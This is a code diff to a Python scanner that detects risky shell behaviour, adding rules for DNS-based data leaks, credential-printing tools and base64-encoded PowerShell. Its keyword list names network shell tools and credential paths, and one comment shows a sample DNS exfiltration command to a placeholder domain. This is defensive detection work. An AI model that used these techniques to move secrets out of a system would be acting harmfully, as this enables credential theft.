@@ -15,6 +15,7 @@ from skillscope.review.behavior.vocab import (
     PERSISTENCE_PATH,
     SECRET_NAME,
     STORE_COMMAND,
+    TOKEN_COMMAND,
     credential_what,
     endpoint_kind,
     is_store,
@@ -28,7 +29,7 @@ __all__ = ["scan_shell", "SHELL_WORDS"]
 
 SHELL_WORDS = ("curl", "wget", "base64", "nc", "ncat", "socat", "/dev/tcp", "crontab", "hooksPath", ".ssh", ".aws", "security",
                "env", "printenv", ">>", "LaunchAgents", "systemctl", "launchctl", "eval", "sh", "xxd", ".kube", ".docker",
-               "Login Data", "keychain", "iwr", "irm", "iex", "Invoke-", "python", "node", "perl", "tee", "git config", "source")
+               "Login Data", "keychain", "iwr", "irm", "iex", "Invoke-", "auth token", "dig ", "nslookup", "-enc", "-Enc", "-EncodedCommand", "python", "node", "perl", "tee", "git config", "source")
 """Words without which no shell rule can fire (a cheap guard before parsing)."""
 
 _SEND_FLAGS = ("-d", "--data", "--data-binary", "--data-raw", "--data-urlencode", "--data-ascii", "-F", "--form", "--form-string",
@@ -94,6 +95,9 @@ def _source(ctx: Ctx, flow: _Flow, cmd: Cmd) -> tuple[str, int, str | None] | No
     store = STORE_COMMAND.search(joined)
     if store:
         return f"reads a credential store ({safe_line(store.group(0), limit=60)})", line, None
+    printed = TOKEN_COMMAND.search(joined) if cmd.name in _TOKEN_TOOLS else None
+    if printed:  # named after its tool, so the token sent to that tool's own provider (gh to api.github.com) is its use
+        return f"reads a credential ({safe_line(printed.group(0), limit=60)})", line, cmd.name
     if cmd.name in _READERS or cmd.name in DOWNLOADERS or cmd.name in ("nc", "ncat", "netcat", "socat", "telnet", "scp", "rsync"):
         for word in cmd.args:
             what = credential_what(word)
@@ -126,7 +130,13 @@ def _pipeline_source(ctx: Ctx, flow: _Flow, pipeline: Pipeline) -> tuple[str, in
     return None
 
 
+_TOKEN_TOOLS = frozenset({"gh", "glab", "aws", "gcloud", "az", "kubectl", "git", "op", "vault", "pass", "npm"}) | {f"docker-credential-{k}" for k in ("desktop", "osxkeychain", "pass", "secretservice", "wincred", "ecr-login", "gcr")}
+_RESOLVERS = frozenset({"dig", "nslookup", "host", "drill", "ping"})
+
+
 def _sends(cmd: Cmd) -> bool:
+    if cmd.name in _RESOLVERS and any("$" in a or "`" in a for a in cmd.args) or (cmd.name in _RESOLVERS and cmd.subs):
+        return True  # a name looked up with data spliced into it (dig "$(cat key | base64).x.example") leaks through DNS
     if cmd.name in NET_TOOLS and cmd.name not in ("ssh", "rsync", "scp", "sftp"):
         return True
     if cmd.name in ("scp", "rsync") and any(re.match(r"^[\w.@-]+:", a) for a in cmd.args[1:]):
@@ -346,6 +356,8 @@ def scan_shell(ctx: Ctx) -> None:
                 if _reverse_shell(ctx, cmd):
                     continue
                 _inline_code(ctx, cmd)
+                if cmd.name in ("powershell", "pwsh", "powershell.exe", "pwsh.exe") and any(a.lower() in ("-enc", "-encodedcommand", "-e", "-ec", "-en") for a in cmd.args):
+                    ctx.add("skillscope/obfuscation/decode-exec", "runs a base64-encoded PowerShell command (-EncodedCommand)", cmd.start, cmd.end)
                 runs = _runs_stdin(cmd) or cmd.name == "eval"
                 if runs and downloaded is not None:
                     ctx.add("skillscope/obfuscation/download-exec", f"runs what it downloads from {safe_line(downloaded, limit=100)}",
